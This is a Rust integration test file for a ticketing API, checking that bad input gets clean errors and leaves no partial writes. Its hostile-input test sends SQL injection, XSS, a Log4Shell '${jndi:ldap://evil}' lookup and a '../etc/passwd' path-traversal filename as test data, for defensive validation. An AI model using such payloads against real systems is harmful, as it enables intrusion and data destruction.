//! Bad input gets a clear error, never a crash, never a partial write.

use reqwest::StatusCode;
use serde_json::{Value, json};
use tessera_core::Role;

use super::{call, create_ticket, error_code};
use crate::common::{TestApp, both_backends};

both_backends!(
    malformed_and_mistyped_bodies,
    hostile_strings_are_stored_verbatim_or_refused,
    oversized_bodies_are_refused,
    failed_requests_write_nothing,
);

async fn post_raw(
    app: &TestApp,
    token: &str,
    content_type: &str,
    body: &'static str,
) -> (StatusCode, Value) {
    call(
        app.client
            .post(app.url("/api/v1/tickets"))
            .bearer_auth(token)
            .header("content-type", content_type)
            .body(body),
    )
    .await
}

fn field(err: &Value) -> &str {
    err["error"]["details"][0]["field"].as_str().unwrap_or("")
}

async fn malformed_and_mistyped_bodies(app: TestApp) {
    let agent = app.token(Role::Agent).await;

    let (status, err) = post_raw(&app, &agent, "application/json", "{\"subject\": \"x\",").await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_eq!(error_code(&err), "bad_request");

    let (status, err) = post_raw(
        &app,
        &agent,
        "application/json",
        "{\"subject\": \"x\", \"requester_email\": \"a@example.com\"} trailing",
    )
    .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{err}");

    let (status, err) = post_raw(&app, &agent, "text/plain", "{\"subject\": \"x\"}").await;
    assert_eq!(status, StatusCode::UNSUPPORTED_MEDIA_TYPE);
    assert_eq!(error_code(&err), "unsupported_media_type");

    let cases = [
        (
            json!({"description": "no subject", "requester_email": "a@example.com"}),
            "subject",
        ),
        (
            json!({"subject": "x", "requester_email": "a@example.com", "colour": "red"}),
            "colour",
        ),
        (
            json!({"subject": "x", "requester_email": "a@example.com", "impact": "high"}),
            "impact",
        ),
        (
            json!({"subject": "x", "requester_email": "a@example.com", "impact": 9}),
            "impact",
        ),
        (
            json!({"subject": "x", "requester_email": "a@example.com", "status": "done"}),
            "status",
        ),
        (
            json!({"subject": "x", "requester_email": "a@example.com", "status": "closed"}),
            "status",
        ),
        (
            json!({"subject": "x", "requester_email": "a@example.com", "type": "bug"}),
            "type",
        ),
        (
            json!({"subject": "x", "requester_email": "a@example.com", "priority": "p1"}),
            "priority",
        ),
        (
            json!({"subject": "x", "requester_email": "not-an-email"}),
            "requester_email",
        ),
        (json!({"subject": "x"}), "requester_email"),
        (
            json!({"subject": "   ", "requester_email": "a@example.com"}),
            "subject",
        ),
        (
            json!({"subject": "x", "requester_email": "a@example.com", "tags": ["two words"]}),
            "tags",
        ),
        (
            json!({"subject": "x", "requester_email": "a@example.com", "assignee_id": 999999}),
            "assignee_id",
        ),
        (
            json!({"subject": "x", "requester_email": "a@example.com", "group_id": 999999}),
            "group_id",
        ),
        (
            json!({"subject": "x", "requester_email": "a@example.com", "custom_fields": {"a b": 1}}),
            "custom_fields",
        ),
        (
            json!({"subject": "x", "requester_email": "a@example.com", "language": "english!"}),
            "language",
        ),
    ];
    for (body, expected_field) in cases {
        let (status, err) = call(app.post_json("/api/v1/tickets", &agent, &body)).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body} → {err}");
        assert_eq!(error_code(&err), "validation_failed");
        assert_eq!(field(&err), expected_field, "{body} → {err}");
    }

    let (status, err) = call(app.get("/api/v1/tickets/987654", &agent)).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert_eq!(error_code(&err), "not_found");
    let (status, _) = call(app.get("/api/v1/tickets/not-a-number", &agent)).await;
    assert!(status.is_client_error());
    let (status, err) = call(app.get("/api/v1/tickets?colour=red", &agent)).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(field(&err), "colour");
    let (status, err) = call(app.get("/api/v1/tickets?limit=0", &agent)).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(field(&err), "limit");
    let (status, err) = call(app.get("/api/v1/tickets?updated_since=yesterday", &agent)).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(field(&err), "updated_since");
    let (status, err) = call(app.get("/api/v1/no-such-endpoint", &agent)).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    error_code(&err);
}

async fn hostile_strings_are_stored_verbatim_or_refused(app: TestApp) {
    let agent = app.token(Role::Agent).await;
    let hostile = [
        "'; DROP TABLE tickets; --",
        "<script>alert('x')</script>",
        "Robert\"); DELETE FROM users WHERE (\"1\"=\"1",
        "💥 émoji Ωμέγα Щ ąęł",
        "${jndi:ldap://evil}",
    ];
    for text in hostile {
        let ticket = create_ticket(
            &app,
            &agent,
            json!({"subject": text, "description": text, "requester_email": "h@example.com"}),
        )
        .await;
        let (_, got) = call(app.get(&format!("/api/v1/tickets/{}", ticket["id"]), &agent)).await;
        assert_eq!(got["subject"], text);
        assert_eq!(got["description"], text);
        let (status, _) =
            call(app.get(&format!("/api/v1/search?q={}", urlencode(text)), &agent)).await;
        assert_eq!(status, StatusCode::OK, "search for {text:?}");
    }
    for q in ["\"", "*", "OR", "NEAR(", "a AND", "-", "'", "\\", "%00"] {
        let (status, body) =
            call(app.get(&format!("/api/v1/search?q={}", urlencode(q)), &agent)).await;
        assert!(
            status == StatusCode::OK || status == StatusCode::UNPROCESSABLE_ENTITY,
            "{q}: {status} {body}"
        );
    }
    let (status, err) = call(app.post_json(
        "/api/v1/tickets",
        &agent,
        &json!({"subject": "nul \u{0} byte", "requester_email": "h@example.com"}),
    ))
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(err["error"]["message"].as_str().unwrap().contains("NUL"));
    let long = "x".repeat(100_000);
    let (status, err) = call(app.post_json(
        "/api/v1/tickets",
        &agent,
        &json!({"subject": long, "requester_email": "h@example.com"}),
    ))
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(field(&err), "subject");
    // A 100 KB description is fine.
    create_ticket(&app, &agent, json!({"subject": "long body", "description": "y".repeat(100_000), "requester_email": "h@example.com"})).await;
}

fn urlencode(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

async fn oversized_bodies_are_refused(app: TestApp) {
    let agent = app.token(Role::Agent).await;
    let huge = "z".repeat(11 * 1024 * 1024);
    let body = format!(
        "{{\"subject\": \"big\", \"requester_email\": \"b@example.com\", \"description\": \"{huge}\"}}"
    );
    // Its own client: the server may close that connection, which must not poison
    // the shared client's pool for the requests below.
    let response = reqwest::Client::new()
        .post(app.url("/api/v1/tickets"))
        .bearer_auth(&agent)
        .header("content-type", "application/json")
        .body(body)
        .send()
        .await;
    // The server may answer 413 before reading everything and close the connection.
    if let Ok(response) = response {
        assert_eq!(response.status(), StatusCode::PAYLOAD_TOO_LARGE);
        let err: Value = response.json().await.unwrap_or(Value::Null);
        if !err.is_null() {
            assert_eq!(error_code(&err), "payload_too_large");
        }
    }
    let (_, list) = call(app.get("/api/v1/tickets", &agent)).await;
    assert!(list["tickets"].as_array().unwrap().is_empty());
    // An attachment over the per-file limit is refused with the field named.
    let ticket = create_ticket(
        &app,
        &agent,
        json!({"subject": "att", "requester_email": "b@example.com"}),
    )
    .await;
    let six_mib = base64_of_len(6 * 1024 * 1024);
    let (status, err) = call(app.post_json(
        &format!("/api/v1/tickets/{}/comments", ticket["id"]),
        &agent,
        &json!({"body": "file", "attachments": [{"filename": "big.bin", "content_type": "application/octet-stream", "content_base64": six_mib}]}),
    ))
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{err}");
    assert_eq!(field(&err), "attachments[0].content");
}

fn base64_of_len(n: usize) -> String {
    // "AAAA" decodes to three zero bytes.
    "AAAA".repeat(n.div_ceil(3))
}

async fn failed_requests_write_nothing(app: TestApp) {
    let agent = app.token(Role::Agent).await;
    let ticket = create_ticket(
        &app,
        &agent,
        json!({"subject": "stable", "requester_email": "s@example.com"}),
    )
    .await;
    let id = ticket["id"].as_i64().unwrap();
    let events_before = call(app.get(&format!("/api/v1/tickets/{id}/events"), &agent))
        .await
        .1;

    // Several fields at once, one of them invalid: nothing changes.
    let (status, _) = call(app.patch_json(
        &format!("/api/v1/tickets/{id}"),
        &agent,
        &json!({"subject": "changed", "tags": ["ok"], "impact": 7}),
    ))
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    let (status, _) = call(app.patch_json(
        &format!("/api/v1/tickets/{id}"),
        &agent,
        &json!({"subject": "changed", "assignee_id": 424242}),
    ))
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    let (status, _) = call(app.post_json(
        &format!("/api/v1/tickets/{id}/comments"),
        &agent,
        &json!({"body": "with a bad file", "attachments": [{"filename": "../etc/passwd", "content_type": "text/plain", "content_base64": "aGk="}]}),
    ))
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);

    let (_, after) = call(app.get(&format!("/api/v1/tickets/{id}"), &agent)).await;
    assert_eq!(after["subject"], "stable");
    assert_eq!(after["tags"], json!([]));
    let events_after = call(app.get(&format!("/api/v1/tickets/{id}/events"), &agent))
        .await
        .1;
    assert_eq!(events_before, events_after);
    let (_, comments) = call(app.get(&format!("/api/v1/tickets/{id}/comments"), &agent)).await;
    assert!(comments["comments"].as_array().unwrap().is_empty());
    let (_, list) = call(app.get("/api/v1/tickets", &agent)).await;
    assert_eq!(list["tickets"].as_array().unwrap().len(), 1);
}
